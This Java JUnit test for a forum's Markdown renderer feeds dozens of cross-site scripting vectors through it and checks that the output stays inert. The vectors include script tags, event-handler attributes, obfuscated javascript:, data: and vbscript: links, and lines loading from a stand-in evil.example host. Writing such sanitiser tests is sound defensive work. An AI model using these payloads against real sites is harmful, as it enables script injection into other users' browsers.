package bg.integra.forum;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Posts that try to run a script in their readers' browsers, in Markdown and in raw HTML. HTML typed into a post is
 * shown as text, so words like "javascript:" may stay visible as text; what must never appear is a tag or an
 * attribute that acts: every tag of the output is read, and its attributes' values are checked once entities,
 * blanks and control characters are taken out, as a browser would.
 */
class ForumMarkdownXssTest {

    private static final Set<String> ALLOWED_ELEMENTS = Set.of("p", "br", "h3", "h4", "ul", "ol", "li", "strong",
            "em", "del", "s", "code", "pre", "blockquote", "hr", "a", "img");
    private static final Set<String> ALLOWED_ATTRIBUTES =
            Set.of("href", "rel", "class", "src", "alt", "start", "data-post");
    private static final Pattern TAG =
            Pattern.compile("<(/?)([a-zA-Z][a-zA-Z0-9]*)((?:\\s+[a-zA-Z][a-zA-Z0-9-]*(?:=\"[^\"<>]*\")?)*)\\s*/?>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([a-zA-Z][a-zA-Z0-9-]*)(?:=\"([^\"]*)\")?");
    private static final Pattern ENTITY = Pattern.compile("&(#[xX][0-9a-fA-F]+|#[0-9]+|[a-zA-Z]+);?");

    static Stream<String> vectors() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "text <script>alert(1)</script> inline",
                "<<script>script>alert(1)<</script>/script>",
                "<img src=x onerror=alert(1)>",
                "Hi <img src=\"/media/1/a.jpg\" onerror=\"alert(1)\"> there",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](javascript:alert(1) \"title\")",
                "[x](<javascript:alert(1)>)",
                "[x](<java\tscript:alert(1)>)",
                "[x](javascript&#58;alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
                "[x](javascript:alert%281%29)",
                "<javascript:alert(1)>",
                "<JAVASCRIPT:alert(1)>",
                "[x][ref]\n\n[ref]: javascript:alert(1)",
                "[ref]\n\n[ref]: <javascript:alert(1)> \"t\"",
                "[x](vbscript:msgbox(1))",
                "<vbscript:msgbox(1)>",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x](javascript:alert(1))",
                "![x](/media/1/a.jpg \"\\\" onerror=\\\"alert(1)\")",
                "![x\" onerror=\"alert(1)](/media/1/a.jpg)",
                "[x](https://example.org\" onclick=\"alert(1))",
                "[x](https://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<span style=\"color:red\">red</span>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<form action=\"https://evil.example\"><input name=x><button>go</button></form>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
                "<div onmouseover=\"alert(1)\">hover</div>",
                "<details open ontoggle=alert(1)>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=javascript:alert(1)>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<link rel=stylesheet href=data:text/css,x>",
                "<textarea><script>alert(1)</script></textarea>",
                "www.example.org/<script>alert(1)</script>",
                "https://example.org/\"onmouseover=\"alert(1)",
                "@ivan\"onmouseover=\"alert(1)",
                "> [post:1\" onmouseover=\"alert(1)]\n> quoted",
                "```\"><script>alert(1)</script>\ncode\n```",
                "```java\" onmouseover=\"alert(1)\ncode\n```",
                "<!-- <script>alert(1)</script> -->",
                "<![CDATA[<script>alert(1)</script>]]>");
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void nothingInAPostActsForAnUntrustedWriter(String markdown) {
        assertInert(ForumMarkdown.render(markdown, false).html());
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void nothingInAPostActsForATrustedWriter(String markdown) {
        assertInert(ForumMarkdown.render(markdown, true).html());
    }

    @ParameterizedTest
    @MethodSource("actingHtml")
    void theCheckFindsWhatActs(String html) {
        assertThrows(AssertionError.class, () -> assertInert(html));
    }

    static Stream<String> actingHtml() {
        return Stream.of("<p>x<script>alert(1)</script></p>", "<SCRIPT>x</SCRIPT>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;avascript&#58;x\">x</a>",
                "<a href=\"DATA:text/html,x\">x</a>", "<a href=\"vbscript:x\">x</a>",
                "<img src=\"/media/1/a.jpg\" onerror=\"alert(1)\" />", "<p style=\"color:red\">x</p>",
                "<iframe src=\"https://evil.example\"></iframe>", "<img src=\"https://evil.example/a.png\" />",
                "<img src=x onerror=alert(1)>", "<p>a</p><svg/onload=alert(1)>");
    }

    static void assertInert(String html) {
        assertFalse(html.toLowerCase(Locale.ROOT).contains("<script"), () -> html);
        Matcher tag = TAG.matcher(html);
        int at = 0;
        while (tag.find()) {
            String between = html.substring(at, tag.start());
            assertFalse(between.contains("<") || between.contains(">"), () -> "a tag the test cannot read: " + html);
            at = tag.end();
            String element = tag.group(2).toLowerCase(Locale.ROOT);
            assertTrue(ALLOWED_ELEMENTS.contains(element), () -> element + " in " + html);
            Matcher attribute = ATTRIBUTE.matcher(tag.group(3));
            while (attribute.find()) {
                String name = attribute.group(1).toLowerCase(Locale.ROOT);
                assertTrue(ALLOWED_ATTRIBUTES.contains(name), () -> name + " in " + html);
                assertFalse(name.startsWith("on") || name.equals("style"), () -> html);
                String value = attribute.group(2) == null ? "" : asBrowserReadsIt(attribute.group(2));
                for (String scheme : List.of("javascript:", "data:", "vbscript:")) {
                    assertFalse(value.contains(scheme), () -> scheme + " in " + html);
                }
                if (name.equals("src")) assertTrue(value.startsWith("/media/"), () -> html);
            }
        }
        String rest = html.substring(at);
        assertFalse(rest.contains("<") || rest.contains(">"), () -> "a tag the test cannot read: " + html);
    }

    /** An attribute's value decoded, lower case, without the blanks and control characters browsers skip. */
    static String asBrowserReadsIt(String value) {
        StringBuilder decoded = new StringBuilder();
        Matcher entity = ENTITY.matcher(value);
        while (entity.find()) {
            String e = entity.group(1);
            String c;
            if (e.startsWith("#x") || e.startsWith("#X")) c = Character.toString(Integer.parseInt(e.substring(2), 16));
            else if (e.startsWith("#")) c = Character.toString(Integer.parseInt(e.substring(1)));
            else c = switch (e.toLowerCase(Locale.ROOT)) {
                case "amp" -> "&";
                case "lt" -> "<";
                case "gt" -> ">";
                case "quot" -> "\"";
                case "colon" -> ":";
                case "tab" -> "\t";
                case "newline" -> "\n";
                default -> entity.group();
            };
            entity.appendReplacement(decoded, Matcher.quoteReplacement(c));
        }
        entity.appendTail(decoded);
        return decoded.toString().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
    }
}
